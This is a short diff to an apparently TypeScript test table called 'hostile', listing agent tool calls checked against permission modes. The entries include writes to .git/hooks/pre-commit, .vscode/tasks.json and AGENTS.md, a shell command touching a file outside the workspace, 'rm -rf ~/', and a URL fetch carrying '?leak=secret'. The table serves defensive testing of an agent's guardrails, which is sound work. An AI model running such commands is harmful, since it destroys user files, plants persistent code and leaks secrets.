@@ -54,7 +54,7 @@ const hostile: readonly [mode: Mode, tool: string, input: object, grave?: boolea
   ['Auto-edit', 'write_file', { path: '.vscode/tasks.json', content: 'canary' }, true],
   ['Auto-edit', 'write_file', { path: 'AGENTS.md', content: 'canary' }, true],
   ['Full', 'write_file', { path: '.git/hooks/pre-commit', content: 'canary' }, true],
-  ['Full', 'shell', { command: 'bash -c "touch canary"' }],
+  ['Full', 'shell', { command: 'bash -c "touch canary ../canary"' }],
   ['Full', 'shell', { command: 'rm -rf ~/' }, true],
   ['Full', 'read_web_url', { url: 'https://example.com/?leak=secret' }],
 ]
